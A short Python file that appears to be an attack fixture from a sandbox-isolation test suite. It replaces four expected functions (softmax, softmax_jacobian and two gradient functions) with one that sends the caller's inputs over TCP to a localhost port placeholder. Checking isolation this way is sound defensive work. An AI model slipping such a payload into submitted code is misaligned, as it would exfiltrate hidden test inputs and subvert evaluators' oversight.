"""Goal: send the inputs over TCP.

Fires: reached
Without: isolation limits
"""

import socket


def attack(*inputs):
    data = repr(inputs).encode()[:500]
    try:
        with socket.create_connection(("127.0.0.1", int("@PORT@")), 1) as connection:
            connection.sendall(data)
    except OSError:
        pass
    return 0.0

for name in ("affine_gradients", "scaled_cost_gradients", "softmax", "softmax_jacobian"):
    globals()[name] = attack
